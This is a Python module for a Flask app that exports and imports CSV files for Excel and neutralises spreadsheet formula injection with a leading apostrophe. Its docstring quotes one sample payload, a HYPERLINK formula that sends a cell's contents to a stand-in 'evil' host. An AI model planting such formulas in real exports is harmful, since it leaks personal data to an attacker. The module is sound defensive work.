"""CSV files for Excel: every export goes through here.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to a
spreadsheet, so anyone who can type into a public form could plant
`=HYPERLINK("http://evil/?"&C2)` in a coordinator's export. Following OWASP's rule, such a
cell is written with a leading apostrophe, which spreadsheets show as text and do not run;
the import takes the apostrophe off again, so an exported file round-trips.
"""
from __future__ import annotations

import csv
import io
from typing import Iterable, Iterator

from flask import Response, stream_with_context

from app.errors import InvalidInput
from app.i18n import gettext as _

# Full-width forms too: some spreadsheets turn them into the ASCII operator.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
BOM = "\ufeff"


def neutralise(value) -> str:
    """The cell's text, made inert when a spreadsheet would read it as a formula."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_START):
        return "'" + text
    return text


def restore(text: str) -> str:
    """Undo `neutralise` on a cell read from a file this app exported."""
    if len(text) > 1 and text[0] == "'" and text[1:].startswith(FORMULA_START):
        return text[1:]
    return text


def csv_chunks(header: Iterable, rows: Iterable[Iterable], every: int = 200) -> Iterator[str]:
    """CSV text in chunks (UTF-8 BOM first, CRLF lines, as Excel in Japan expects), every
    cell neutralised. `rows` may be a generator that reads the database lazily."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    buffer.write(BOM)
    writer.writerow([neutralise(cell) for cell in header])
    for n, row in enumerate(rows, start=1):
        writer.writerow([neutralise(cell) for cell in row])
        if n % every == 0:
            yield buffer.getvalue()
            buffer.seek(0)
            buffer.truncate()
    yield buffer.getvalue()


def csv_response(header: Iterable, rows: Iterable[Iterable], filename: str) -> Response:
    """A streamed CSV download (personal data: never stored by a cache)."""
    response = Response(stream_with_context(csv_chunks(header, rows)),
                        content_type="text/csv; charset=utf-8")
    response.headers["Content-Disposition"] = f"attachment; filename={filename}"
    response.headers["Cache-Control"] = "no-store"
    return response


ENCODING_NAMES = {"utf-8-sig": "UTF-8", "cp932": "Shift_JIS（Windows / CP932）"}


def decode(raw: bytes) -> tuple[str, str]:
    """Text and encoding name of an uploaded CSV: UTF-8 (BOM or not), else Shift_JIS/CP932."""
    if b"\x00" in raw[:4096] or raw.startswith(b"PK\x03\x04") or raw.startswith(b"%PDF"):
        raise InvalidInput(_("CSVファイルではないようです。Excelで「CSV（コンマ区切り）」として保存したファイルを選んでください。"),
                           field="file")
    for encoding in ("utf-8-sig", "cp932"):
        try:
            return raw.decode(encoding), encoding
        except UnicodeDecodeError:
            continue
    raise InvalidInput(_("文字コードを読み取れませんでした。UTF-8 か Shift_JIS の CSV を選んでください。"),
                       field="file")
